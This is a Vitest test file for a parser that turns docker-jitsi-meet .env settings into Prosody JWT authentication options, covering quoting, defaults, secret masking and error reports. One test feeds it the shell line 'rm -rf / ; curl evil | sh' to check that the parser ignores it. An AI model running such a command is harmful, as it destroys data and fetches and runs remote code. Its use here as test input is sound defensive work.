// @vitest-environment node
import { describe, expect, it } from 'vitest';
import { parseDockerEnv } from './docker-env';
import type { ProsodySettings } from '../server/prosody-settings';

describe('parseDockerEnv', () => {
  // A docker-jitsi-meet .env made from env.example with JWT authentication switched on.
  const DOCKER_ENV = `# Security
#
# Set these to strong passwords to avoid intruders from impersonating a service account
JICOFO_COMPONENT_SECRET=0123456789abcdef
JICOFO_AUTH_PASSWORD=jicofo-password
JVB_AUTH_PASSWORD=jvb-password

#
# Basic configuration options
#
CONFIG=~/.jitsi-meet-cfg
HTTP_PORT=8000
HTTPS_PORT=8443
TZ=UTC
PUBLIC_URL=https://meet.example.com

# Enable authentication
ENABLE_AUTH=1
# Enable guest access
#ENABLE_GUESTS=1
# Select authentication type: internal, jwt, ldap or matrix
AUTH_TYPE=jwt

# Application identifier
JWT_APP_ID=my_jitsi_app_id
# Application secret known only to your token generator
JWT_APP_SECRET="my secret # with hash"
# (Optional) Set asap_accepted_issuers as a comma separated list
JWT_ACCEPTED_ISSUERS=my_web_client,my_app_client
# (Optional) Set asap_accepted_audiences as a comma separated list
JWT_ACCEPTED_AUDIENCES='my_server1,my_server2'
#JWT_ALLOW_EMPTY=0
export JWT_ENABLE_DOMAIN_VERIFICATION=true  # check sub
XMPP_DOMAIN=meet.jitsi
XMPP_MUC_DOMAIN=muc.meet.jitsi
XMPP_MUC_MODULES=token_affiliation,muc_allowners
`;

  it('maps a realistic docker .env onto the prosody options its template writes', () => {
    const result = parseDockerEnv(DOCKER_ENV);
    expect(result.format).toBe('env');
    expect(result.domain).toBe('meet.jitsi');
    expect(result.publicUrl).toBe('https://meet.example.com');
    expect(result.settings).toEqual<ProsodySettings>({
      authentication: 'token',
      app_id: 'my_jitsi_app_id',
      app_secret: 'my secret # with hash',
      asap_accepted_issuers: ['my_web_client', 'my_app_client'],
      asap_accepted_audiences: ['my_server1', 'my_server2'],
      allow_empty_token: false,
      enable_domain_verification: true,
      muc_mapper_domain_base: 'meet.jitsi',
      muc_mapper_domain_prefix: 'muc',
    });
    expect(result.problems).toEqual([]);
    expect(result.modules.mainMuc).toBe('muc.meet.jitsi');
    expect(result.modules.components[0]?.modules).toEqual([
      'muc_meeting_id',
      'token_affiliation',
      'muc_allowners',
      'token_verification',
    ]);
    expect(result.modules.watched.token_affiliation.isEnabled).toBe(true);
    expect(result.modules.watched.muc_allowners.isEnabled).toBe(true);
  });

  it('marks the secret, records lines and defaults, and hides other secrets it ignores', () => {
    const result = parseDockerEnv(DOCKER_ENV);
    expect(result.understood.find((u) => u.name === 'JWT_APP_SECRET')).toMatchObject({
      option: 'app_secret',
      isSecret: true,
      line: 27,
      section: '.env',
    });
    expect(result.understood.find((u) => u.name === 'JWT_ALLOW_EMPTY')).toMatchObject({
      isDefault: true,
      line: 0,
      value: '0',
    });
    expect(result.ignored.find((i) => i.text.startsWith('JICOFO_AUTH_PASSWORD'))?.text).toBe(
      'JICOFO_AUTH_PASSWORD=(hidden)',
    );
    expect(result.ignored.find((i) => i.text.startsWith('HTTP_PORT'))?.why).toBe(
      'not used for token authentication',
    );
    expect(result.ignored.find((i) => i.text.startsWith('JWT_ALLOW_EMPTY'))?.why).toBe('commented out');
    expect(JSON.stringify(result.ignored)).not.toMatch(/jicofo-password|jvb-password|0123456789abcdef/);
  });

  it.each<[string, string, Partial<ProsodySettings>]>([
    [
      'defaults: XMPP_DOMAIN meet.jitsi, prefix muc, domain check off',
      'ENABLE_AUTH=1\nAUTH_TYPE=jwt\nJWT_APP_ID=a',
      {
        app_id: 'a',
        muc_mapper_domain_base: 'meet.jitsi',
        muc_mapper_domain_prefix: 'muc',
        enable_domain_verification: false,
        allow_empty_token: false,
        authentication: 'token',
      },
    ],
    [
      'export and spaces around =',
      'export ENABLE_AUTH = 1\nexport AUTH_TYPE=jwt\nexport JWT_APP_ID = "a b"',
      { app_id: 'a b' },
    ],
    ['inline comment after an unquoted value', 'JWT_APP_ID=abc # the id', { app_id: 'abc' }],
    ['a # without a space is part of the value', 'JWT_APP_SECRET=ab#cd', { app_secret: 'ab#cd' }],
    ['double-quote escapes', 'JWT_APP_SECRET="a\\"b\\\\c"', { app_secret: 'a"b\\c' }],
    ['single quotes are literal', "JWT_APP_SECRET='a\\nb'", { app_secret: 'a\\nb' }],
    [
      'CRLF line ends',
      'ENABLE_AUTH=1\r\nAUTH_TYPE=jwt\r\nJWT_APP_ID=a\r\n',
      { app_id: 'a', authentication: 'token' },
    ],
    ['a BOM', '\uFEFFJWT_APP_ID=a', { app_id: 'a' }],
    [
      'toBool words',
      'JWT_ALLOW_EMPTY=true\nJWT_ENABLE_DOMAIN_VERIFICATION=T',
      { allow_empty_token: true, enable_domain_verification: true },
    ],
    [
      'JWT_SIGN_TYPE and the key server',
      'JWT_SIGN_TYPE=RS256\nJWT_ASAP_KEYSERVER=https://keys.example.com/asap',
      { signature_algorithm: 'RS256', asap_key_server: 'https://keys.example.com/asap' },
    ],
    [
      'PROSODY_AUTH_TYPE overrides AUTH_TYPE',
      'ENABLE_AUTH=1\nAUTH_TYPE=internal\nPROSODY_AUTH_TYPE=jwt',
      { authentication: 'token' },
    ],
    [
      'JWT_AUTH_TYPE renames the provider',
      'ENABLE_AUTH=1\nAUTH_TYPE=jwt\nJWT_AUTH_TYPE=token_custom',
      { authentication: 'token_custom' },
    ],
    [
      'ENABLE_AUTH off: anonymous',
      'AUTH_TYPE=jwt\nJWT_APP_ID=a',
      { authentication: 'jitsi-anonymous', app_id: 'a' },
    ],
    ['AUTH_TYPE internal', 'ENABLE_AUTH=1\nAUTH_TYPE=internal', { authentication: 'internal_hashed' }],
    [
      'a custom MUC domain',
      'XMPP_DOMAIN=meet.example.com\nXMPP_MUC_DOMAIN=conference.meet.example.com',
      { muc_mapper_domain_base: 'meet.example.com', muc_mapper_domain_prefix: 'conference' },
    ],
    ['the later value wins', 'JWT_APP_ID=a\nJWT_APP_ID=b', { app_id: 'b' }],
  ])('%s', (_name, text, settings) => {
    expect(parseDockerEnv(text).settings).toMatchObject(settings);
  });

  it.each<[string, string, RegExp]>([
    [
      'spaces after commas are kept, as the template does',
      'JWT_ACCEPTED_ISSUERS=a, b',
      /spaces around a comma/,
    ],
    ['an empty list item', 'JWT_ACCEPTED_AUDIENCES=a,,b', /empty item/],
    ['an unterminated quote', 'JWT_APP_SECRET="abc', /not closed on this line/],
    ['text after the closing quote', 'JWT_APP_ID="a" b', /Text after the closing quote/],
    ['interpolation', 'JWT_APP_SECRET=${SECRET}', /taken literally/],
    [
      'a boolean word the template does not know',
      'ENABLE_AUTH=yes',
      /count any other non-empty value as true; older images refuse/,
    ],
    ['ENABLE_AUTH missing', 'JWT_APP_ID=a', /ENABLE_AUTH is not 1/],
    ['AUTH_TYPE not jwt', 'ENABLE_AUTH=1\nAUTH_TYPE=ldap', /AUTH_TYPE is ldap, not jwt/],
    ['JWT_APP_ID missing with jwt on', 'ENABLE_AUTH=1\nAUTH_TYPE=jwt', /JWT_APP_ID is not set/],
    ['a quote inside the issuer list', 'JWT_ACCEPTED_ISSUERS=a"b', /breaks the generated Lua/],
  ])('reports %s', (_name, text, message) => {
    expect(
      parseDockerEnv(text)
        .problems.map((p) => p.message)
        .join('\n'),
    ).toMatch(message);
  });

  it('keeps the exact issuer strings, spaces included', () => {
    expect(parseDockerEnv('JWT_ACCEPTED_ISSUERS=a, b').settings.asap_accepted_issuers).toEqual(['a', ' b']);
  });

  it.each<[string, string, string]>([
    ['a Lua line', 'VirtualHost "meet.example.com"', 'not a KEY=value line'],
    ['a shell command', 'rm -rf / ; curl evil | sh', 'not a KEY=value line'],
    ['a template expression', '{{ .Env.JWT_APP_ID }}', 'not a KEY=value line'],
  ])('ignores %s', (_name, line, why) => {
    const result = parseDockerEnv(`JWT_APP_ID=a\n${line}\n`);
    expect(result.ignored).toContainEqual({ text: line, line: 2, why });
    expect(result.settings.app_id).toBe('a');
  });

  it('reports a template expression as template text, not also as a placeholder', () => {
    const result = parseDockerEnv('AUTH_TYPE=jwt\nJWT_APP_ID=a\nJWT_APP_SECRET=<%= @secret %>\n');
    const codes = result.remarks.map((r) => r.code);
    expect(codes).toContain('template-text');
    expect(codes).not.toContain('placeholder-value');
    expect(result.placeholders).toEqual([]);
  });

  it('still reports a placeholder next to a template expression', () => {
    const result = parseDockerEnv('JWT_APP_ID=<app_id>\nJWT_APP_SECRET={{ .Env.SECRET }}\n');
    expect(result.placeholders).toEqual([{ name: 'app_id', value: '<app_id>', line: 1 }]);
  });
});
